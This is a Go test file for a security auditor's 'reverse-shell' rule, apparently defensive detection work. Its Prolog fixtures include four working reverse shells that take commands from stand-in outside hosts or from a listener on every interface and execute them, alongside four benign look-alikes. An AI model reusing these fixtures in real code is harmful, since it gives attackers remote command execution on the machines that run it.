package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestPrologSocketRun: a Prolog program that connects a socket (or binds
// one on every interface, or opens a websocket), reads what the other end
// sends and runs it (shell/2, process_create of bash -c, call/1 of a read
// term, shell/1 of a field of a JSON message) is a reverse shell however
// the text travels (through a helper predicate that returns it, stream
// pairs, accepted connections, format(atom(...))): critical. A socket only
// to localhost, a fixed command run beside a socket (also when a logging
// predicate sees both), plunit tests shelling out with no network and an
// HTTP server bound to localhost running git are not findings.
func TestPrologSocketRun(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	checkRule(t, "reverse-shell", map[string]systemCase{
		"hostile/swi-read-term-call": {map[string]string{"prolog/console.pl": `:- module(console, [attach/0]).
:- use_module(library(socket)).

attach :-
    tcp_socket(Sock),
    tcp_connect(Sock, 'console.example.org':4711),
    tcp_open_socket(Sock, Pair),
    stream_pair(Pair, In, Out),
    serve(In, Out).

serve(In, Out) :-
    read_term(In, Goal, []),
    (   Goal == end_of_file
    ->  true
    ;   ( catch(call(Goal), E, (print_message(error, E), fail)) -> R = yes ; R = no ),
        format(Out, "~q.~n", [R]),
        flush_output(Out),
        serve(In, Out)
    ).
`}, crit},
		"hostile/helper-returns-command": {map[string]string{"tools/sync.pl": `:- use_module(library(socket)).
:- use_module(library(readutil)).
:- initialization(sync, main).

relay(Host, Port) :- getenv('SYNC_RELAY', Host), Port = 9300.

next_job(Stream, Job) :-
    read_line_to_string(Stream, Line),
    Line \== end_of_file,
    string_concat("job:", Job, Line).

sync :-
    relay(H, P),
    tcp_connect(H:P, S, []),
    repeat,
    (   next_job(S, J)
    ->  shell(J, Status),
        format(S, "~w~n", [Status]), flush_output(S), fail
    ;   !, close(S)
    ).
`}, crit},
		"hostile/listener-accept-shell": {map[string]string{"bin/agent.pro": `:- use_module(library(socket)).

main :-
    tcp_socket(Srv),
    tcp_setopt(Srv, reuseaddr),
    tcp_bind(Srv, 7788),
    tcp_listen(Srv, 4),
    accept_loop(Srv).

accept_loop(Srv) :-
    tcp_accept(Srv, Client, _Peer),
    tcp_open_socket(Client, Stream),
    read_line_to_codes(Stream, Codes),
    atom_codes(Cmd, Codes),
    format(atom(Full), "~w 2>&1", [Cmd]),
    process_create(path(bash), ['-c', Full], [stdout(pipe(O))]),
    copy_stream_data(O, Stream),
    close(Stream),
    accept_loop(Srv).
`}, crit},
		"hostile/websocket-dict-field": {map[string]string{"src/live.prolog": `:- use_module(library(http/websocket)).

live :-
    http_open_websocket('wss://hooks.example.net/live', WS, []),
    forever(WS).

forever(WS) :-
    ws_receive(WS, Msg, [format(json)]),
    get_dict(data, Msg, Data),
    get_dict(run, Data, Cmd),
    shell(Cmd),
    forever(WS).
`}, crit},
		"benign/localhost-language-server": {map[string]string{"pl/bridge.pl": `:- use_module(library(socket)).
:- use_module(library(readutil)).

% talks only to the editor plugin on this machine
bridge(Port) :-
    tcp_connect(localhost:Port, S, []),
    loop(S).

loop(S) :-
    read_line_to_string(S, Line),
    (   Line == end_of_file -> close(S)
    ;   shell(Line), loop(S)
    ).
`}, none},
		"benign/status-client-fixed-command": {map[string]string{"scripts/watch.pl": `:- use_module(library(socket)).
:- use_module(library(readutil)).

watch :-
    tcp_connect('ci.example.org':8125, S, []),
    read_line_to_string(S, Status),
    log_line(Status),
    Cmd = 'make test',
    log_line(Cmd),
    (   Status == "rebuild" -> shell(Cmd) ; true ),
    close(S).

log_line(X) :- format(user_error, "~w~n", [X]).
`}, none},
		"benign/plunit-shell-no-network": {map[string]string{"tests/run.pl": `:- use_module(library(plunit)).
:- use_module(library(process)).

:- begin_tests(build).
test(make) :- shell('make -s all', 0).
test(version) :-
    process_create(path(git), ['describe', '--tags'], [stdout(pipe(O))]),
    read_line_to_string(O, V), close(O),
    string(V).
:- end_tests(build).
`}, none},
		"benign/http-server-localhost": {map[string]string{"server/serve.pl": `:- use_module(library(http/thread_httpd)).
:- use_module(library(http/http_dispatch)).
:- use_module(library(http/http_json)).

:- http_handler(root(status), status, []).

serve :- http_server(http_dispatch, [port(localhost:8080)]).

status(_Request) :-
    setup_call_cleanup(
        process_create(path(git), ['status', '--short'], [stdout(pipe(O))]),
        read_string(O, _, Text),
        close(O)),
    reply_json_dict(_{status: Text}).
% tcp_connect(Host:Port, S, []), read_line_to_string(S, L), shell(L) is never done
`}, none},
	})
}
